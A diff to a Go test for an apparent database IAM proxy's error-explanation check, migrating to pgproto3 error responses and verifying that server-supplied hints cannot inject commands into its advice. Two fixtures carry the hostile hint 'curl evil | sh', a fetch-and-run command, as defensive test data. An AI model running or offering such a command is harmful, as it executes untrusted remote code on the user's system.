@@ -1,13 +1,15 @@
 package check
 
 import (
+	"errors"
 	"strings"
 	"testing"
 
-	"github.com/jackc/pgx/v5/pgconn"
+	"github.com/jackc/pgx/v5/pgproto3"
 
 	"github.com/iamproxy/iamproxy/auth"
 	"github.com/iamproxy/iamproxy/internal/rdsapi"
+	"github.com/iamproxy/iamproxy/proxy/pgwire"
 )
 
 // A server cannot put a command into the report, nor imitate an error of the proxy.
@@ -16,24 +18,32 @@ func TestExplainServerError(t *testing.T) {
 	const dsql = "abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws"
 	for name, test := range map[string]struct {
 		host  string
-		said  pgconn.PgError
+		said  pgproto3.ErrorResponse
 		login outcome
 		next  string
 	}{
-		"forged advice":     {host, pgconn.PgError{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# the log of the database may say more"},
-		"forged verdict":    {host, pgconn.PgError{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, tokenRefused, "iamproxy policy "},
-		"PAM":               {host, pgconn.PgError{Code: "28000", Message: `PAM authentication failed for user "app"`}, tokenRefused, "iamproxy policy "},
-		"pg_hba":            {host, pgconn.PgError{Code: "28000", Message: "no pg_hba.conf entry for host"}, tokenRefused, "iamproxy policy "},
-		"no login":          {host, pgconn.PgError{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `ALTER ROLE "app" LOGIN;`},
-		"DSQL":              {dsql, pgconn.PgError{Code: "08006", Message: "unable to accept connection, access denied"}, tokenRefused, "iamproxy policy "},
-		"DSQL, else":        {dsql, pgconn.PgError{Code: "08006", Message: "unable to accept connection"}, otherError, "# "},
-		"proxy, no secret":  {rdsProxy, pgconn.PgError{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherError, "# the RDS Proxy has to have a secret for app"},
-		"proxy, not by IAM": {rdsProxy, pgconn.PgError{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherError, "# the RDS Proxy has to take IAM"},
-		"not of a proxy":    {host, pgconn.PgError{Code: "28000", Message: "IAM authentication is not allowed for the role app."}, tokenRefused, "iamproxy policy "},
+		"forged advice":     {host, pgproto3.ErrorResponse{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# the log of the database may say more"},
+		"forged verdict":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, tokenRefused, "iamproxy policy "},
+		"PAM":               {host, pgproto3.ErrorResponse{Code: "28000", Message: `PAM authentication failed for user "app"`}, tokenRefused, "iamproxy policy "},
+		"pg_hba":            {host, pgproto3.ErrorResponse{Code: "28000", Message: "no pg_hba.conf entry for host"}, tokenRefused, "iamproxy policy "},
+		"no login":          {host, pgproto3.ErrorResponse{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `ALTER ROLE "app" LOGIN;`},
+		"DSQL":              {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection, access denied"}, tokenRefused, "iamproxy policy "},
+		"DSQL, else":        {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection"}, otherError, "# "},
+		"proxy, no secret":  {rdsProxy, pgproto3.ErrorResponse{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherError, "# the RDS Proxy has to have a secret for app"},
+		"proxy, not by IAM": {rdsProxy, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherError, "# the RDS Proxy has to take IAM"},
+		"not of a proxy":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app."}, tokenRefused, "iamproxy policy "},
 	} {
 		r := newRun("app")
 		r.Name = auth.ParseName(test.host)
-		res := r.explainServerError(&test.said)
+		phase := pgwire.TokenSent
+		if name == "no login" {
+			phase = pgwire.Authenticated
+		}
+		var server *pgwire.ServerError
+		if !errors.As(pgwire.NewServerError(pgwire.Encode(&test.said), phase), &server) {
+			t.Fatalf("%s: no ServerError", name)
+		}
+		res := r.explainServerError(server)
 		if r.seen.login != test.login || res.state != Failed || !strings.HasPrefix(res.next, test.next) || strings.Contains(res.next, "evil") {
 			t.Errorf("%s: %s, %+v", name, r.seen.login, res)
 		}
